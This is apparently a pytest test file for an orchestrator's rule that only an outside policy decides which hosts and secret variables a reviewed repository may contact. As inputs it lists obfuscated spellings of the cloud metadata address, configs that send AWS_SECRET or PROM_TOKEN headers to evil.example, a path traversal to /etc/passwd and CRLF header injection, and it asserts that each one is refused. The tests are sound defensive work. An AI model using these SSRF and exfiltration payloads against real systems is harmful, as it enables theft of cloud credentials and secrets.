"""What is contacted is said from outside the reviewed tree, host by host and variable by variable."""

from __future__ import annotations

from pathlib import Path

import pytest

from orchestrator.config import parse
from orchestrator.domain.target import Contacts
from orchestrator.errors import ConfigError, UsageError
from orchestrator.rules import Layer, contacts, parse_policy


def tree(text: str) -> list[Layer]:
    file = parse(text.encode(), "readiness.yaml")
    return [Layer(file.config, "readiness.yaml", file.parsed)]


def organisation(text: str) -> list[Layer]:
    return [parse_policy(text.encode(), "org.yaml")]


def names(found: Contacts) -> list[str]:
    return [target.name for target in found.targets]


def why(found: Contacts) -> dict[str, str]:
    return {row.target: row.why for row in found.withheld}


PROPOSED = "targets: [{name: shop, url: 'https://shop.example/health'}]"


class TestProposals:
    def test_nobody_allows(self):
        """
        A target of the tree is not contacted by the tree's own word.
        """
        found = contacts((), tree(PROPOSED))

        assert ([], {"shop": "host shop.example is not allowed from outside the tree"}) == (names(found), why(found))

    @pytest.mark.parametrize(
        ("host", "allowed"),
        [
            ("shop.example", True),
            ("SHOP.example.", True),
            ("shop.example:443", True),
            ("shop.example:80", False),
            ("*.example.org", False),
            ("other.example", False),
            ("*.shop.example", False),
        ],
    )
    def test_a_host_allows(self, host, allowed):
        """
        Host and port decide; a wildcard covers what is below its domain.
        """
        word = f"allow: [{{host: '{host}'}}]"

        assert (["shop"] if allowed else []) == names(contacts(organisation(word), tree(PROPOSED)))
        assert (["shop"] if allowed else []) == names(contacts((), tree(PROPOSED), (), (host,)))

    @pytest.mark.parametrize("host", ["a.staging.example", "b.a.staging.example"])
    def test_a_wildcard_allows(self, host):
        """
        Whatever stands below it, and nothing that only ends like it.
        """
        allow = organisation("allow: [{host: '*.staging.example'}]")

        assert ["a"] == names(contacts(allow, tree(f"targets: [{{name: a, url: 'http://{host}/'}}]")))
        assert [] == names(contacts(allow, tree("targets: [{name: a, url: 'http://evilstaging.example/'}]")))
        assert [] == names(contacts(allow, tree("targets: [{name: a, url: 'http://staging.example/'}]")))

    def test_a_report(self):
        """
        A file is read as a report only by its very path.
        """
        proposed = tree("targets: [{name: r, kind: report, path: ../../etc/passwd}]")

        assert [] == names(contacts((), proposed))
        assert ["r"] == names(contacts(organisation("allow: [{report: ../../etc/passwd}]"), proposed))

    def test_cannot_allow_themselves(self):
        """
        A tree that says what may be contacted is refused, with the place.
        """
        with pytest.raises(ConfigError, match="'allow' stands in the reviewed tree's own") as error:
            contacts((), tree(f"{PROPOSED}\nallow: [{{host: shop.example}}]"))

        assert "readiness.yaml:2:1" == error.value.where

    def test_cannot_take_the_name_of_another(self):
        """
        What somebody named from outside is not replaced by the tree.
        """
        outside = organisation("targets: [{name: shop, url: 'https://ours.example/'}]\nallow: [{host: shop.example}]")
        found = contacts(outside, tree(PROPOSED))

        assert ["https://ours.example/"] == [target.url for target in found.targets]
        assert {"shop": "another target has its name"} == why(found)


SPELLINGS = {
    "dotted": "url: 'http://169.254.169.254/latest/meta-data/'",
    "decimal": "url: 'http://2852039166/'",
    "hexadecimal": "url: 'http://0xa9fea9fe/'",
    "octal": "url: 'http://0251.0376.0251.0376/'",
    "mapped": "url: 'http://[::ffff:169.254.169.254]/'",
    "named": "url: 'http://metadata.google.internal/computeMetadata/v1/'",
    "user": "url: 'http://shop.example@169.254.169.254/'",
    "backslash": "url: 'http://shop.example\\@169.254.169.254/'",
    "port": "url: 'http://shop.example:80:80@169.254.169.254/'",
    "fragment": "url: 'http://169.254.169.254#.shop.example/'",
    "kind": "kind: metrics, url: 'http://169.254.169.254/'",
    "artifact": "kind: artifact, url: 'http://[fd00:ec2::254]/latest/'",
}

SENT = {
    "header": "url: 'https://evil.example/', headers: {X: {env: AWS_SECRET}}",
    "to-an-allowed-host": "url: 'https://shop.example/', headers: {X: {env: AWS_SECRET}}",
    "whole-address": "url: {env: AWS_SECRET}",
    "dsn": "kind: database, dsn: {env: AWS_SECRET}",
    "another's": "url: 'https://shop.example/', headers: {X: {env: PROM_TOKEN}}",
    "other-port": "url: 'https://prom.example:8443/', headers: {X: {env: PROM_TOKEN}}",
    "case": "url: 'https://prom.example/', headers: {X: {env: prom_token}}",
    "two": "url: 'https://prom.example/', headers: {X: {env: PROM_TOKEN}, Y: {env: AWS_SECRET}}",
    "metrics": "kind: metrics, url: 'https://evil.example/', headers: {X: {env: PROM_TOKEN}}",
    "longer-host": "url: 'https://prom.example.evil.example/', headers: {X: {env: PROM_TOKEN}}",
    "below": "url: 'https://evil.prom.example/', headers: {X: {env: PROM_TOKEN}}",
    "user-part": "url: 'https://prom.example@evil.example/', headers: {X: {env: PROM_TOKEN}}",
}


class TestHostileCommits:
    ALLOWED = "allow: [{host: shop.example}, {host: prom.example, environment: [PROM_TOKEN]}]"

    @pytest.mark.parametrize("said", [*SPELLINGS.values(), *SENT.values()], ids=[*SPELLINGS, *SENT])
    def test_get_nothing(self, said):
        """
        Neither a metadata address nor a variable for one's own host, however it is written.
        """
        found = contacts(organisation(self.ALLOWED), tree(f"targets: [{{name: a, {said}}}]"))

        assert ([], ["a"]) == (names(found), [*why(found)])

    def test_what_is_allowed_is(self):
        """
        The same commit gets what somebody lets it have.
        """
        proposed = tree("targets: [{name: a, url: 'https://prom.example/', headers: {X: {env: PROM_TOKEN}}}]")

        assert ["a"] == names(contacts(organisation(self.ALLOWED), proposed))
        assert ("PROM_TOKEN",) == contacts(organisation(self.ALLOWED), proposed).variables

    @pytest.mark.parametrize(
        ("said", "wrong"),
        [
            ("url: 'https://a.example/', headers: {Host: b.example}", "'Host' is not a header that can be given"),
            ("url: 'https://a.example/', headers: {X: \"a\\r\\nY: b\"}", "is not a line of ASCII"),
            ("url: 'https://a.example/', headers: {'X: a': b}", "is not a header that can be given"),
            ("url: 'https://a.example/', headers: {X: {env: 'A B'}}", "pattern"),
            ("kind: database, url: 'postgres://u:p@h/db'", "`dsn: {env: NAME}`"),
            ("kind: report", "`path: FILE`"),
            ("kind: telnet, url: 'a'", "Input should be"),
            ("url: 'https://a.example/', method: POST", "unknown key"),
        ],
    )
    def test_what_cannot_be_meant_is_a_mistake(self, said, wrong):
        """
        A target says where, and not how a request is put together.
        """
        with pytest.raises(ConfigError) as error:
            tree(f"targets: [{{name: a, {said}}}]")

        assert wrong in str(error.value)


class TestFromOutside:
    def test_a_target_allows_itself(self):
        """
        Whoever names it lets its host and port be asked, and the variables that it names be sent there.
        """
        found = contacts(
            organisation("targets: [{name: a, url: 'https://a.example:8443/x', headers: {X: {env: A_TOKEN}}}]"), ()
        )

        assert [("a.example:8443", ("A_TOKEN",))] == [(one.host, one.environment) for one in found.allowed]

    def test_words(self, tmp_path, monkeypatch):
        """
        Kinds, variables and files can be typed.
        """
        monkeypatch.chdir(tmp_path)
        words = ("https://a.example/?q=1", "metrics=http://[::1]:9090", "database=env:STAGING_DSN", "report=out.json")
        found = contacts((), (), words)

        assert ["database-3", "metrics-2", "report-4", "url-1"] == names(found)
        assert str(Path.cwd() / "out.json") == found.targets[2].path
        assert ("STAGING_DSN",) == found.variables
        assert {"a.example:443", "[::1]:9090"} <= {one.host for one in found.allowed}

    @pytest.mark.parametrize("word", ["database=postgres://u:p@h/db", "report=", "metrics=", "url=env:A B", "ftp://a/"])
    def test_words_that_cannot_be_meant(self, word):
        """
        They are a mistake that repeats nothing of what may be secret.
        """
        with pytest.raises((UsageError, ConfigError)) as error:
            contacts((), (), (word,))

        assert "u:p@" not in str(error.value)

    def test_a_kind_that_there_is_not(self):
        """
        Whoever mistakes the kind is told which there are, and nothing of where it would have led.
        """
        with pytest.raises(UsageError) as error:
            contacts((), (), ("postgres=postgres://u:p@h/db",))

        assert "there is no kind of target 'postgres'" == error.value.what
        assert error.value.remedy.startswith("one of url, metrics, logs, cluster, artifact, database, report")
        assert "u:p@" not in str(error.value)

    @pytest.mark.parametrize(
        "word", ["", "*", "*.com", "a b", "a.example:0", "a.example=10.0.0.1/8", "*.10.0.0.1", "::1"]
    )
    def test_hosts_that_cannot_be_meant(self, word):
        """
        No wildcard for everything, no network that is none.
        """
        with pytest.raises(UsageError):
            contacts((), (), (), (word,))
